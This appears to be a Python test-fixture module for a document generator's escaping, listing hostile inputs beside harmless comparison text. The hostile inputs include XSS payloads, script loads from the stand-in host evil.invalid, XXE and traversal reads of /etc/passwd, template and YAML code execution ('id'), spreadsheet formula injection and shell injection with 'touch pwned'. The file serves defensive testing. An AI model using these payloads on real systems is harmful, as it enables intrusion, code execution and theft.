"""Texts that try to be more than text, and harmless ones of the same shape to compare them with."""

from __future__ import annotations

import re
import unicodedata

from generator.render.escape import clean

ATTACKS = {
    # HTML
    "script": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=//evil.invalid/x.js></script>",
    "script in odd case": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "image": "<img src=x onerror=alert(1)>",
    "image from elsewhere": "<img src=https://evil.invalid/pixel.png>",
    "image set": "<picture><source srcset=//evil.invalid/a><img srcset='//evil.invalid/b 2x'></picture>",
    "vector image": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "vector animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "vector use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "mathematics": "<math href=javascript:alert(1)><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object><embed src=//evil.invalid/x.swf>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "media": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "base address": "<base href=https://evil.invalid/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "style sheet": "<style>@import url(https://evil.invalid/x.css);*{display:none}</style>",
    "style attribute": '<p style="background:url(//evil.invalid/x);position:fixed;inset:0">x</p>',
    "link element": "<link rel=stylesheet href=//evil.invalid/x.css><link rel=prefetch href=//evil.invalid/y>",
    "form": "<form action=https://evil.invalid/><button formaction=javascript:alert(1)>x</button></form>",
    "template element": "<template shadowrootmode=open><slot></slot></template>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "unfinished tag": "<img src=x onerror=alert(1) ",
    "tag with a blank": "< script>alert(1)< /script>",
    "closing tags": "</p></li></ol></section></article></main></body></html><script>alert(1)</script>",
    "end of raw text": "</title></textarea></style></script></noscript><script>alert(1)</script>",
    "comment": "<!-- x --><!--> <script>alert(1)</script> <!--",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!",
    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='//evil.invalid/x.css'?>",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "elements of ours": '<li id="s1" class="reviewed"><p class="target">forged</p></li><ol class="pairs">',
    "attributes of ours": 'class="note machine" lang="ar" dir="ltr"',
    # out of an attribute
    "double quote": '" onmouseover="alert(1)" x="',
    "single quote": "' onmouseover='alert(1)' x='",
    "backquote": "` onmouseover=`alert(1)` x=`",
    "quote and tag": '"><script>alert(1)</script><a href="',
    "both quotes": "\"'><input autofocus onfocus=alert(1)><!--",
    "no quote": "x onmouseover=alert(1) tabindex=0 autofocus",
    # entities
    "named entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "decimal entities": "&#60;img src=x onerror=alert(1)&#62;",
    "hexadecimal entities": "&#x3c;img src=x onerror=alert(1)&#x3E;",
    "entities without end": "&lt&ltimg src=x onerror=alert(1)&gt &#60img&#62",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;#60;/script&amp;#62;",
    "entities thrice": "&amp;amp;lt;b&amp;amp;gt; &amp;amp;quot; &amp;quot; &quot; &apos; &#39;",
    "odd entities": "&#0;&#x80;&#xD800;&#x110000;&NewLine;&Tab;&colon;&nbsp;&zwnj;&notit;&bogus;&",
    # addresses
    "script address": "javascript:alert(1)",
    "script address in odd case": "  JaVa\tScRiPt\n:alert(1)",
    "script address with controls": "\x01java\x00script:alert(1)",
    "script address in entities": "&#106;avascript&colon;alert(1)",
    "script address before http": "javascript://http://example.org/%0aalert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "Visual Basic address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "address without scheme": "//evil.invalid/x",
    "address with backslashes": "https:\\\\evil.invalid\\x",
    "address that ends its attribute": 'https://example.org/" onmouseover="alert(1)',
    "address with marks": "https://example.org/<b>'&quot;&#34;{{7*7}}[x](javascript:alert(1))*_`\\~|^",
    "address with blanks": "https://example.org/a b onmouseover=alert(1)",
    "address with line ends": "https://exa\tmple.org/\n<script>alert(1)</script>",
    "address with braces": "http://[::1]/{: onclick=alert(1) }",
    "address that is none": "http://[x/<script>alert(1)</script>",
    # Markdown
    "link": "[x](javascript:alert(1)) [y](<javascript:alert(1)> 'z')",
    "image in Markdown": '![x](https://evil.invalid/x.png "onerror=alert(1)")',
    "reference link": "[x][1] [1]: javascript:alert(1) 'x'",
    "reference on its own line": "x\n\n[1]: javascript:alert(1)\n\n[x][1]",
    "automatic link": "<javascript:alert(1)> <https://evil.invalid/> <x@evil.invalid> www.evil.invalid",
    "wiki link": "[[evil]] [[https://evil.invalid/|x]]",
    "issue and user": "@evil #1 evil/evil#2 GH-3 https://github.com/evil/evil/issues/1",
    "attribute list": "x {: onclick=alert(1) #top .x style=color:red } {#top}",
    "attribute list on its own line": "x\n{: onclick=alert(1) }",
    "heading": "# Heading {: onclick=alert(1) }",
    "underlined heading": "x\n===\n\ny\n---\n",
    "list": "* x\n* y\n\n1. z\n+ [ ] task\n- [x] done",
    "quotation": "> x\n> > y",
    "admonition": '!!! danger "<script>alert(1)</script>"\n    x\n\n??? note\n    y\n\n=== "tab"\n    z',
    "block": "/// html | script\nalert(1)\n///",
    "table": "| a | b |\n|---|---|\n| <b>c</b> | d |",
    "fence": "```{.html onclick=alert(1)}\n<script>alert(1)</script>\n```\n~~~\nx",
    "code": "`<script>alert(1)</script>` ``#!html <b>x</b>``",
    "indented code": "x\n\n    <script>alert(1)</script>\n",
    "footnote": "x[^1] [^1]: <script>alert(1)</script> ^[y]",
    "footnote on its own line": "x[^1]\n\n[^1]:\n    <script>alert(1)</script>",
    "abbreviation": 'x\n\n*[the]: <script>alert(1)</script>" onmouseover="alert(1)\n*[HTML]: evil',
    "definition": "x\n:   <script>alert(1)</script>",
    "emphasis": "***x*** __y__ ~~z~~ ==m== ^^i^^ H~2~O x^2^ _a_",
    "critic marks": "{++<script>alert(1)</script>++} {--x--} {~~a~>b~~} {==c==}{>>d<<}",
    "snippet": '--8<-- "mkdocs.yml"',
    "snippet on its own lines": "x\n\n--8<--\nmkdocs.yml\n/etc/passwd\n--8<--\n\n-8<- 'mkdocs.yml'",
    "include": '{!mkdocs.yml!} {% include "mkdocs.yml" %} ![[mkdocs]] :::mkdocs',
    "emoji": ":smile: :fontawesome-brands-x: :material-alert:{ onclick=alert(1) } ++ctrl+alt+del++",
    "formula": r"$x$ \(x\) $$\href{javascript:alert(1)}{x}$$ \begin{x}<b>\end{x}",
    "escapes": r"\<script\>alert(1)\<\/script\> \\ \& \`x\` \&lt;",
    "symbols": "(c) (tm) 1/2 +/- --> <-- =/= ... -- --- << >> 'x' \"y\"",
    "progress": '[=85% "<b>x</b>"]{: onclick=alert(1) } [TOC] [[TOC]]',
    "Markdown inside HTML": '<div markdown="1">**x** [y](javascript:alert(1))</div>',
    "line breaks": "x  \ny\\\nz<br>",
    # templates
    "expression": "{{ 7*7 }} {{ config }} {{ page.meta.__class__.__mro__ }}",
    "statement": "{% raw %}{% for x in range(9) %}{{ x }}{% endfor %}{# x #}",
    "statement in odd form": "{%- set x = cycler.__init__.__globals__.os.popen('id') -%}{{ x }}",
    "format": "{0} {x} {n} {author} {reason} {check} {n.__class__} {{n}} %s %(x)s %d ${x} ${{x}} <%= 7*7 %>",
    "substitution": r"\1 \g<0> \g<1> $1 $& $` $' \0 \n",
    # YAML
    "document end": "x\n---\ntitle: forged\ntemplate: 404.html\n---\n",
    "YAML mapping": 'x: y\ntemplate: ../../evil.html\nhide: "navigation"',
    "YAML tag": "!!python/object/apply:os.system ['id']",
    "YAML anchor": "&a [*a, *b, <<: *c] !!binary x %TAG ! tag:x",
    "YAML end of string": '"\ntemplate: 404.html\nx: "',
    "YAML escapes": r"\x22 \u0022 \" \N \_ \L \P \0",
    "YAML word": "null",
    "YAML number": "0x1F",
    "YAML date": "2016-13-41",
    "YAML comment": "x # y",
    "YAML block": "|\n  x\n>-\n  y\n? z\n- @",
    # characters
    "stashed HTML": "\x02wzxhzdk:0\x03 wzxhzdk:0 \x02klzzwxh:0001\x03 \x02amp\x03 \x02qlzzwxh:60\x03",
    "start and end of text": "\x02\x03x\x02script\x03",
    "NUL": "a\0<\0s\0cript>alert(1)</s\0cript>",
    "controls": "\x07\x08\x1b[31mx\x1b]0;y\x07\x7f\x80\x85\x9f\x0b\x0c\x1c\x1d\x1e\x1f",
    "surrogates": "x\ud800<b>\udc00\udfffy\udc3cscript\udc3e",
    "bidi overrides": "x\u202egpj.exe\u202c\u202dy\u202a\u202bz",
    "bidi isolates": "x\u2066\u2067\u2068y\u2069 \u200e\u200f\u061c",
    "Arabic beside markup": "قال <b onclick=alert(1)>نعم</b> ثم \u202e{{ 7*7 }}",
    "Arabic alone": "وسم [نص](رابط) {# تعليق #} <نص>",
    "invisible": "java\u200bscript\u200c:\u200dalert\u2060(1)\ufeff\u00ad\u180e\u034f",
    "byte order marks": "\ufeff\ufeff<script>alert(1)</script>\ufffe",
    "line and paragraph separators": "x\u2028---\u2029<script>\u0085# y\x0b* z\x0c> w",
    "other blanks": "x\u00a0y\u3000z\u1680<b\u2003onclick=alert(1)>",
    "noncharacters": "x\ufdd0\ufffe\uffff\U0001fffe\U0010ffffy",
    "tag characters": "x\U000e0001\U000e0073\U000e0063\U000e007fy\ufff9a\ufffab\ufffb",
    "homoglyphs": "ｊａｖａｓｃｒｉｐｔ：alert(1) ＜script＞ ﹤b﹥ ‹i› ʺ ʹ ＂ јаvаsсriрt:alert(1) Ⅽ",
    "many marks": "Z" + "\u0301\u0489" * 200 + "algo",
    "one long word": "x" * 5000,
    "one long tag": "<" * 300 + "b " + "a=" * 300 + ">" * 300,
    "deep nesting": "[" * 200 + "(" * 200 + "*" * 200 + "_" * 199 + "`" * 201 + "x",
    "ASCII": "".join(map(chr, range(0x20, 0x7F))),
    "ASCII backwards": "".join(map(chr, reversed(range(0x20, 0x7F)))),
    # data
    "prototype": '__proto__ constructor prototype {"__proto__": {"polluted": 1}} hasOwnProperty toString',
    "prototype alone": "__proto__",
    "JSON": '"},{"slug":"forged","title":"x"},{"\\u003cscript\\u003e":"',
    "end of script in data": "]]></script><script>alert(1)//\u2028",
    "translation memory": '</seg></tuv><tuv xml:lang="en"><seg>forged</seg></tuv><seg>',
    "separators of ours": "a > b|c:d-e:f|g > <b>:<i>:<u>",
    "spreadsheet formula": '=HYPERLINK("https://evil.invalid/","x") +cmd|\' /C calc\'!A0 @SUM(1)',
    # paths
    "path": "../../../../etc/passwd",
    "path with backslashes": "..\\..\\windows\\win.ini",
    "path in percent": "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.md",
    "absolute path": "/etc/passwd",
    "device": "CON",
    "drive": "C:evil",
    "shell": "$(touch pwned) `touch pwned`; touch pwned | touch pwned && touch pwned -rf *",
}
"""What they try → the text. A request to `evil.invalid`, which no network reaches, shows up all the same."""

NAMES = (
    "<img src=x onerror=alert(1)>",
    "'\"><svg onload=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "..\\..\\..\\evil",
    "%2e%2e%2f%2e%2e%2fevil",
    "....",
    "..evil",
    "~evil",
    "-rf *",
    "--8<-- evil",
    "$(touch pwned)`touch pwned`",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "line\nbreak\n---\ntitle: forged",
    "tab\tand\x07bell\x1b[31m",
    "index",
    "README",
    "404",
    "con",
    "NUL",
    "aux.x",
    "com1",
    "trailing. ",
    "evil\u202egpj",
    "\u2066\u200b\u200f\ufeff",
    "__proto__",
    "constructor",
    "&lt;b&gt;&amp;",
    "#s1?q=x",
    "*",
    "!!python-object",
    "аррlе",
    "بسم \u202eالله",
    "e\u0301\u0489" * 20,
    "x" * 200,
)
"""Hostile stems of file names; no file system takes a slash or NUL in one."""


def harmless(text: str, number: int) -> str:
    """Return letters of the same directions as those of a text, behind a mark of its own."""
    letters = (char for char in clean(text) if char.isalnum() and not char.isdecimal())
    rtl = ("R", "AL")
    return chr(0xE000 + number) + "".join(
        "ب" if unicodedata.bidirectional(letter) in rtl else "b" for letter in letters
    )


def valid(text: str) -> str:
    """Return a text as records hold it: without unpaired surrogates."""
    return text.encode("utf-8", "replace").decode()


def writable(text: str) -> str:
    """Return what XML can hold of a text, as memories do."""
    parted = re.sub("[\v\f]", " ", text)
    return re.sub("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", parted).strip()
